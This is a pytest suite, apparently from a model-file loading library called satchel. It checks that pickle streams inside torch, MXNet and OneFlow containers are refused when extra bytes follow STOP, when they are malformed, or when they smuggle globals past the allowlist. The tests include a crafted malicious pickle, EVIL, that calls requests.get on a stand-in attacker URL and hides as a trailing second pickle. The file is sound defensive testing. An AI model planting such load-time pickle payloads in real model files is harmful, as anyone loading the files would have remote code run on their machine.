"""The pickle interpreter is at least as strict as CPython's, and a pickle is the whole record.

docs/formats.md#hostile-pickles, rules P6, P13 and P14. Three ways a file could say more than a
reader sees, each pinned here in every container satchel reads pickles from:

* bytes after a pickle's ``STOP`` (a benign list followed by a second pickle that calls
  ``requests.get``): refused with the offset, never ignored;
* streams CPython's own unpickler rejects (``FRAME`` lengths that disagree with their content,
  opcodes straddling a frame's end, protocol 6, ``PUT -1``, ``INT 12L``...): refused too, checked
  by a differential test against ``pickle._Unpickler`` (pure Python; its ``find_class`` and
  ``persistent_load`` raise, so it never imports or calls anything);
* a result that still holds one of the interpreter's stand-ins (a bare allowlisted global, a
  stand-in never given its state): refused naming the global, never handed to the caller.
"""

from __future__ import annotations

import io
import pickle
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import satchel
from satchel.formats._codecs.pickle import unpickle

pytestmark = pytest.mark.filterwarnings("ignore:invalid .*escape sequence:DeprecationWarning")

P2 = b"\x80\x02"
P4 = b"\x80\x04"


def u(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def frame(body: bytes, length: int | None = None) -> bytes:
    """FRAME declaring ``length`` (default: honestly ``len(body)``), then ``body``."""
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def body(data: bytes) -> bytes:
    """A pickle without its PROTO and STOP, to embed as a value in another pickle."""
    assert data[:1] == b"\x80" and data.endswith(b".")
    return data[2:-1]


BENIGN = pickle.dumps([1, 2, 3], protocol=2)
EVIL = P2 + g("requests", "get") + u("http://attacker.invalid/x") + b"\x85R."


# -- containers ------------------------------------------------------------------------------------
def torch_zip(path: Path, data: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
    return path


_LEGACY_HEAD = (
    P2 + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    + P2 + b"M\xe9\x03."
    + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
)  # fmt: skip
_NO_KEYS = P2 + b"]."


def legacy(path: Path, obj: bytes, *, keys: bytes = _NO_KEYS) -> Path:
    path.write_bytes(_LEGACY_HEAD + obj + keys)
    return path


def mxnet_states(value: bytes) -> bytes:
    """Trainer states whose value is ``value``'s body (the sniffer wants an MXNet name first)."""
    return P2 + u("mxnet.optimizer") + b"0" + body(value) + b"."


def oneflow_payload(value: bytes, *, single: bool) -> bytes:
    marker = u("__oneflow__") + b"N" if single else b""
    return P4 + b"}(" + u("protocol_version") + b"K\x01" + marker + u("data") + body(value) + b"u."


def write_mxnet(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def write_oneflow_file(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def write_oneflow_folder(path: Path, data: bytes) -> Path:
    path.mkdir()
    (path / "pickled_data").write_bytes(data)
    return path


# (how to wrap a value pickle into the container's own pickle, how to write that pickle)
Wrap = Callable[[bytes], bytes]
Write = Callable[[Path, bytes], Path]
CONTAINERS: dict[str, tuple[Wrap, Write]] = {
    "torch-zip": (lambda v: v, torch_zip),
    "torch-legacy": (lambda v: v, legacy),
    "mxnet-states": (mxnet_states, write_mxnet),
    "oneflow-single-file": (lambda v: oneflow_payload(v, single=True), write_oneflow_file),
    "oneflow-folder": (lambda v: oneflow_payload(v, single=False), write_oneflow_folder),
}


@pytest.mark.parametrize("container", list(CONTAINERS))
def test_the_containers_load_a_benign_list(tmp_path: Path, container: str) -> None:
    wrap, write = CONTAINERS[container]
    path = write(tmp_path / "x", wrap(BENIGN))
    assert satchel.load(path) == [1, 2, 3]


# -- P6: nothing may follow STOP -----------------------------------------------------------------
@pytest.mark.parametrize("tail", [EVIL, b"\0", b"N."], ids=["second pickle", "NUL", "NONE STOP"])
@pytest.mark.parametrize("container", [c for c in CONTAINERS if c != "torch-legacy"])
def test_bytes_after_stop_are_refused(tmp_path: Path, container: str, tail: bytes) -> None:
    wrap, write = CONTAINERS[container]
    record = wrap(BENIGN)
    path = write(tmp_path / "x", record + tail)
    # Unsafe, not merely damaged: a hidden second pickle is a scanner-evasion technique.
    with pytest.raises(satchel.UnsafeContentError, match=f"byte {len(record)}"):
        satchel.load(path)
    with pytest.raises(satchel.UnsafeContentError):
        satchel.open(path)
    report = satchel.verify(path)
    assert not report.ok
    assert f"byte {len(record)}" in report.problems[0].message


def test_legacy_stream_pickles_follow_each_other_exactly(tmp_path: Path) -> None:
    """The legacy stream holds several pickles in a row: each ends at STOP, the next must be
    what the layout says (docs/formats.md#torch-legacy); a pickle slipped in between or after
    the key list is refused."""
    ok = legacy(tmp_path / "ok.pt", BENIGN)
    assert satchel.load(ok) == [1, 2, 3]
    between = legacy(tmp_path / "between.pt", BENIGN + EVIL)
    with pytest.raises(satchel.SatchelError):
        satchel.load(between)
    after = legacy(tmp_path / "after.pt", BENIGN, keys=_NO_KEYS + EVIL)
    with pytest.raises(satchel.FormatError, match="after"):
        satchel.load(after)
    not_a_pickle = legacy(tmp_path / "junk.pt", BENIGN, keys=b"\0" + _NO_KEYS)
    with pytest.raises(satchel.FormatError):
        satchel.load(not_a_pickle)


def test_unpickle_names_the_offset_of_trailing_bytes() -> None:
    with pytest.raises(satchel.UnsafeContentError, match=f"byte {len(BENIGN)}"):
        unpickle(BENIGN + EVIL, where="t", allowed={})
    # A caller that reads several pickles in a row asks for the end and checks what follows.
    first = unpickle(BENIGN + EVIL, where="t", allowed={}, trailing=True)
    assert (first.value, first.end) == ([1, 2, 3], len(BENIGN))


# -- P10: only data leaves the interpreter ---------------------------------------------------------
# Per container, one global its allowlist resolves (so the stream passes the allowlist).
_ALLOWED_GLOBAL = {
    "torch-zip": ("_codecs", "encode"),
    "torch-legacy": ("_codecs", "encode"),
    "mxnet-states": ("_codecs", "encode"),
    "oneflow-single-file": ("collections", "OrderedDict"),
    "oneflow-folder": ("collections", "OrderedDict"),
}
_SHAPES = {
    "top level": lambda gl: P2 + gl + b".",
    "in a dict": lambda gl: P2 + b"}" + u("k") + gl + b"s.",
    "as a dict key": lambda gl: P2 + b"}" + gl + b"K\x01s.",
    "in a list": lambda gl: P2 + b"]" + gl + b"a.",
    "in a tuple": lambda gl: P2 + b"K\x01" + gl + b"\x86.",
    "in a nested list": lambda gl: P2 + b"]]" + gl + b"aa.",
    "in a set": lambda gl: P4 + b"\x8f(" + gl + b"\x90.",
    "in a frozenset": lambda gl: P4 + b"(" + gl + b"\x91.",
}


@pytest.mark.parametrize("shape", list(_SHAPES))
@pytest.mark.parametrize("container", list(CONTAINERS))
def test_a_bare_global_never_reaches_the_caller(tmp_path: Path, container: str, shape: str) -> None:
    module, name = _ALLOWED_GLOBAL[container]
    wrap, write = CONTAINERS[container]
    path = write(tmp_path / "x", wrap(_SHAPES[shape](g(module, name))))
    with pytest.raises(satchel.UnsafeContentError, match=re.escape(f"{module}.{name}")):
        satchel.load(path)


def test_a_global_in_a_state_dicts_metadata_never_reaches_the_caller(tmp_path: Path) -> None:
    od = g("collections", "OrderedDict") + b")R"
    data = P2 + od + b"}" + u("_metadata") + g("_codecs", "encode") + b"sb."
    with pytest.raises(satchel.UnsafeContentError, match=re.escape("_codecs.encode")):
        satchel.load(torch_zip(tmp_path / "x.pt", data))


def test_a_bare_torch_storage_never_reaches_the_caller(tmp_path: Path) -> None:
    pid = b"(" + u("storage") + g("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x01tQ"
    path = tmp_path / "x.pt"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", P2 + pid + b".")
        z.writestr("archive/data/0", b"\0" * 4)
        z.writestr("archive/version", b"3\n")
    with pytest.raises(satchel.UnsafeContentError, match="TorchStorage"):
        satchel.load(path)


@pytest.mark.parametrize("container", ["oneflow-single-file", "oneflow-folder"])
def test_an_unbuilt_oneflow_stand_in_never_reaches_the_caller(
    tmp_path: Path, container: str
) -> None:
    wrap, write = CONTAINERS[container]
    tag = P2 + g("oneflow._oneflow_internal", "dtype") + b")R."
    with pytest.raises(
        satchel.UnsafeContentError, match=re.escape("oneflow._oneflow_internal.dtype")
    ):
        satchel.load(write(tmp_path / "x", wrap(tag)))


# -- P13: frames and the other opcodes CPython checks ----------------------------------------------
_STRUCTURAL = {
    "FRAME longer than the stream": P4 + frame(b"N.", 100),
    "FRAME length 2**63": P4 + frame(b"N.", 2**63),
    "opcode straddling the frame end": P4 + frame(u("abc") + b".", 3),
    "FRAME inside an unfinished frame": P4 + frame(b"N" + frame(b"0N.")),
    "protocol 6": b"\x80\x06N.",
    "protocol 255": b"\x80\xffN.",
    "INT with an L suffix": b"I12L\n.",
    "INT with a leading zero": b"I012\n.",
    "LONG with two L suffixes": b"L12LL\n.",
    "PUT of a negative index": b"N\x70-1\n.",
    "PUT with an L suffix": b"Np1L\n.",
    "GET with an L suffix": b"Np1\n0g1L\n.",
    "GLOBAL name not UTF-8": P2 + b"c\xff\xfe\nx\n.",
    "STRING with a bad escape": b"S'\\x4'\n.",
}


# Streams CPython's unpicklers both accept but that break rule P13 (a frame holds exactly whole
# opcodes; a Python 2 str has only the escapes its repr writes): refused, so that no two readers
# (a scanner and a loader) can see different opcodes in one file.
_STRICTER = {
    "STOP before the frame ends": P4 + frame(b"N.N0"),
    "argument after a frame's last byte": P4 + frame(b"X") + struct.pack("<I", 1) + b"a.",
    "STRING with a \\u escape": b"S'\\u0041'\n.",
    "STRING with an unknown escape": b"S'\\q'\n.",
}


@pytest.mark.parametrize("name", list(_STRUCTURAL))
def test_streams_cpython_rejects_are_refused(name: str) -> None:
    data = _STRUCTURAL[name]
    assert "reject" in (_reference(data)[0], _c_reference(data)), "CPython accepts this stream"
    with pytest.raises(satchel.FormatError):
        unpickle(data, where="t", allowed={})


@pytest.mark.parametrize("name", list(_STRICTER))
def test_frames_and_strings_are_stricter_than_cpython(name: str) -> None:
    with pytest.raises(satchel.FormatError):
        unpickle(_STRICTER[name], where="t", allowed={})


@pytest.mark.parametrize("name", [*_STRUCTURAL, *_STRICTER])
def test_malformed_streams_are_refused_in_a_torch_zip(tmp_path: Path, name: str) -> None:
    data = {**_STRUCTURAL, **_STRICTER}[name]
    with pytest.raises(satchel.SatchelError):
        satchel.load(torch_zip(tmp_path / "x.pt", data))


@pytest.mark.parametrize(
    ("data", "value"),
    [
        (P4 + frame(b"N."), None),  # one honest frame
        (P4 + frame(b"]" + b"\x94") + frame(b"K\x01a."), [1]),  # two frames back to back
        (P4 + frame(b"](") + b"C\x02ab" + frame(b"e."), [b"ab"]),  # unframed bytes between
        (P4 + frame(b"K\x01") + b".", 1),  # STOP after the frame (pickle's writer never does)
        (b"(I-12\nI0\nI000\nI00\nt.", (-12, 0, 0, False)),
        (b"L12L\nL-3\n\x86.", (12, -3)),
        (b"S'a\\x41\\n\\'\\\\'\n.", "aA\n'\\"),
        (b"(lp0\nI1\nag0\na.", [1, [...]]),
    ],
)
def test_streams_cpython_accepts_read_the_same(data: bytes, value: Any) -> None:
    kind, want, end = _reference(data)
    assert kind == "accept"
    got = unpickle(data, where="t", allowed={})
    assert repr(got.value) == repr(want)
    if value != [1, [...]]:
        assert got.value == value
    assert got.end == end == len(data)


# -- the references: CPython's two unpicklers, unable to import or call ----------------------------
class _Refused(Exception):
    """The reference reached a global or a persistent id: beyond what can be compared."""


class _Reference(pickle._Unpickler):  # type: ignore[name-defined,misc]
    dispatch: ClassVar[dict[int, Any]] = dict(pickle._Unpickler.dispatch)  # type: ignore[attr-defined]

    def __init__(self, data: bytes) -> None:
        self.buf = io.BytesIO(data)
        super().__init__(self.buf, encoding="latin1")
        self.size = len(data)

    def find_class(self, module: str, name: str) -> Any:
        raise _Refused

    def persistent_load(self, pid: Any) -> Any:
        raise _Refused

    def load_bytearray8(self) -> None:
        # CPython allocates the declared size first; more than the stream holds always ends in
        # an error (the bytes run out), so say so without allocating.
        (n,) = struct.unpack("<Q", self.read(8))
        if n > self.size:
            raise EOFError
        b = bytearray(n)
        self.readinto(b)
        self.append(b)

    dispatch[pickle.BYTEARRAY8[0]] = load_bytearray8


def _reference(data: bytes) -> tuple[str, Any, int]:
    """``("accept", value, end)``, ``("reject", error, 0)`` or ``("skip", None, 0)``."""
    ref = _Reference(data)
    try:
        value = ref.load()
    except _Refused:
        return "skip", None, 0
    except Exception as e:  # any error is CPython's rejection
        return "reject", e, 0
    return "accept", value, ref.buf.tell()


class _CReference(pickle.Unpickler):
    def find_class(self, module: str, name: str) -> Any:
        raise _Refused

    def persistent_load(self, pid: Any) -> Any:
        raise _Refused


def _c_reference(data: bytes) -> str:
    """The C unpickler's verdict (``pickle.loads``): ``accept``, ``reject`` or ``skip``."""
    if b"\x96" in data:  # BYTEARRAY8 allocates its declared size before reading: not here
        return "skip"
    try:
        _CReference(io.BytesIO(data), encoding="latin1").load()
    except _Refused:
        return "skip"
    except Exception:  # any error is CPython's rejection
        return "reject"
    return "accept"


# Snippets of well-formed and near-well-formed opcodes; hypothesis strings them together, frames
# runs of them (with honest or lying lengths) and flips bytes.
_TEXT = st.text(alphabet="0123456789-+Lx_ \\'\"abnu\xe9", max_size=6)
_OPCODES = [
    b"N", b"\x88", b"\x89", b"(", b"t", b"l", b"d", b"]", b"}", b")", b"\x8f", b"a", b"e",
    b"s", b"u", b"0", b"1", b"2", b"\x85", b"\x86", b"\x87", b"\x90", b"\x91", b"\x94", b".",
    b"K\x07", b"M\x01\x02", b"J\xff\xff\xff\xff", b"q\x00", b"q\x01", b"h\x00", b"h\x01",
    b"r\x00\x00\x00\x00", b"j\x00\x00\x00\x00", b"C\x02ab", b"B\x01\x00\x00\x00z",
    b"\x8c\x01a", b"\x8c\x02\xc3\xa9", b"\x8c\x01\xff", b"U\x02\xff\x00", b"\x8a\x01\x80",
    b"\x8a\x00", b"\x8b\x01\x00\x00\x00\x7f", b"G" + struct.pack(">d", 1.5),
    b"\x96\x02\x00\x00\x00\x00\x00\x00\x00hi", b"\x8e\x01\x00\x00\x00\x00\x00\x00\x00z",
    b"\x80\x02", b"\x80\x05", b"\x80\x06", b"\x98", b"Q", b"R", b"b", b"\x81", b"\x93",
    b"cmod\nname\n",
]  # fmt: skip
_SNIPPETS = st.one_of(
    st.sampled_from(_OPCODES),
    st.builds(
        lambda op, t: op + t.encode("utf-8") + b"\n",
        st.sampled_from([b"I", b"L", b"F", b"p", b"g", b"V", b"S", b"P"]),
        _TEXT,
    ),
    st.builds(lambda t: b"S'" + t.encode("latin1") + b"'\n", _TEXT),
)


@st.composite
def _streams(draw: st.DrawFn) -> bytes:
    parts: list[bytes] = [draw(st.sampled_from([b"", P2, P4, b"\x80\x05"]))]
    for _ in range(draw(st.integers(0, 4))):
        run = b"".join(draw(st.lists(_SNIPPETS, max_size=8)))
        if draw(st.booleans()):
            lie = draw(st.sampled_from([0, 0, 0, -2, -1, 1, 2, 2**40]))
            run = frame(run, max(0, len(run) + lie))
        parts.append(run)
    data = bytearray(b"".join(parts) + draw(st.sampled_from([b".", b"", b"N."])))
    for _ in range(draw(st.integers(0, 2))):
        if data:
            at = draw(st.integers(0, len(data) - 1))
            data[at] = draw(st.integers(0, 255))
    return bytes(data)


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8)
    | st.binary(max_size=8) | st.just(b"\0" * 70_000),  # large bytes are written unframed
    lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner)
    | st.dictionaries(st.text(max_size=3) | st.integers(), inner, max_size=3)
    | st.frozensets(st.integers(), max_size=3) | st.sets(st.integers(), max_size=3),
    max_leaves=12,
)  # fmt: skip


@st.composite
def _dumped(draw: st.DrawFn) -> bytes:
    """What CPython's picklers write (frames at protocol 4+), with a few bytes changed."""
    value = draw(_VALUES)
    dump = draw(st.sampled_from([pickle.dumps, pickle._dumps]))  # type: ignore[attr-defined]
    data = bytearray(dump(value, protocol=draw(st.integers(0, 5))))
    for _ in range(draw(st.integers(0, 2))):
        at = draw(st.integers(0, len(data) - 1))
        data[at] = draw(st.integers(0, 255))
    return bytes(data)


@settings(max_examples=3000, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.one_of(_streams(), _dumped()))
@example(data=P4 + frame(b"N.", 100))
@example(data=P4 + frame(b"X") + struct.pack("<I", 1) + b"a.")
@example(data=b"I1L\n.")
def test_differential_against_cpython_unpickler(data: bytes) -> None:
    """What either CPython unpickler rejects, satchel rejects; what all accept reads the same."""
    kind, want, end = _reference(data)
    try:
        got = unpickle(data, where="t", allowed={}, trailing=True)
    except satchel.SatchelError:
        got = None
    if kind == "reject" or _c_reference(data) == "reject":
        assert got is None, f"CPython rejects ({want!r}), satchel accepted {got!r}"
    elif kind == "accept" and got is not None:
        assert repr(got.value) == repr(want)
        assert got.end == end


def test_the_references_never_import_or_call() -> None:
    calls = P2 + g("builtins", "print") + u("x") + b"\x85R."
    assert _reference(calls)[0] == _c_reference(calls) == "skip"
